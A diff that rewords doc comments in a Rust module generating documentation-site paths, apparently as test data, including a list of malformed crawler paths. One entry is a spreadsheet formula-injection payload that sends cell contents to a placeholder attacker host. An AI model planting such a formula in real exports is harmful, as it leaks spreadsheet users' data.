@@ -1,4 +1,4 @@
-//! Which paths a documentation site has, most read first, and what crawlers make of them.
+//! Paths of a documentation site, most visited first, and paths that crawlers invent.
 
 use std::collections::HashSet;
 
@@ -6,7 +6,7 @@ use rand::RngExt;
 
 use crate::seeded;
 
-/// Paths that every site has, and that lead its list.
+/// Paths of every site, at the top of its list.
 const FRONT: [&str; 12] = [
     "/",
     "/quickstart",
@@ -80,10 +80,10 @@ const PAGES: [&str; 16] = [
     "faq",
     "changelog",
 ];
-/// The first is the language without a prefix, which most pages are read in.
+/// The first language has no prefix and most of the visitors.
 const LANGUAGES: [&str; 4] = ["", "/de", "/ja", "/pt-BR"];
 
-/// As crawlers and scanners write them: formulas, quotes, control characters, other scripts, markup.
+/// Paths of crawlers and scanners: formulas, quotes, control characters, other scripts, markup.
 const NASTY: [&str; 24] = [
     "/guides/quickstart,copy",
     "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
@@ -110,12 +110,12 @@ const NASTY: [&str; 24] = [
     "/combining/e\u{301}\u{301}\u{301}",
     "/back\\slash\\path",
 ];
-/// Length in bytes of the one path that a crawler caught in a loop has written.
+/// Length in bytes of the path of a crawler in an endless loop.
 const LONG_PATH_BYTES: usize = 2_000;
-/// Every so many paths, starting within the first page of rows, one is nasty, while they last.
+/// Distance between hostile paths in the list. The first is on the first page of rows.
 const NASTY_EVERY: usize = 20;
 
-/// The first `count` paths of a site, most read first, all different.
+/// The first `count` paths of a site, most visited first and without repetition.
 pub(super) fn paths(seed: u64, project: &str, count: usize) -> Vec<String> {
     let nasty = NASTY.iter().map(|path| (*path).to_owned()).chain([looped_path()]);
     let mut nasty = nasty.enumerate().map(|(n, path)| (NASTY_EVERY * (n + 1), path)).peekable();
@@ -134,7 +134,7 @@ pub(super) fn paths(seed: u64, project: &str, count: usize) -> Vec<String> {
     paths
 }
 
-/// Enough ordinary paths for `count`, in an order of the seed's making: other languages and old versions late.
+/// At least `count` ordinary paths, in an order of the seed, with other languages and old versions late.
 fn ordinary(seed: u64, project: &str, count: usize) -> impl Iterator<Item = String> {
     let mut rng = seeded::rng(seed, "paths", project, 0);
     let mut ranked: Vec<(f64, String)> = every_path()
@@ -145,7 +145,7 @@ fn ordinary(seed: u64, project: &str, count: usize) -> impl Iterator<Item = Stri
     ranked.into_iter().map(|(_, path)| path)
 }
 
-/// Every path there could be, with how far from the beaten track it is. Does not end.
+/// All possible paths, with their distance from the main ones. It does not end.
 fn every_path() -> impl Iterator<Item = (u16, String)> {
     let versions = (0_u16..).map(|n| if n == 0 { String::new() } else { format!("/v{n}") });
     versions.zip(0_u16..).flat_map(|(version, age)| {
